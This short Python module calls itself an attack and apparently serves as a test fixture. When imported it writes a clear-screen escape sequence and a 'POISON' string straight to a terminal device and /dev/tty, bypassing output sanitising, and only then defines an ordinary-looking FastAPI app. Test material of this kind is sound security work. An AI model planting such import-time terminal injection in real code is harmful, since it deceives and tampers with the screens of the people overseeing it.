"""Attack: escape sequences straight to somebody's screen, past everything that cleans text."""

import contextlib
import os

from fastapi import FastAPI

from .targets import POISON, TERMINAL, acted

acted("import")
for name in (TERMINAL, "/dev/tty"):
    with contextlib.suppress(OSError):
        descriptor = os.open(name, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        os.write(descriptor, f"\x1b[2J{POISON}".encode())
app = FastAPI()
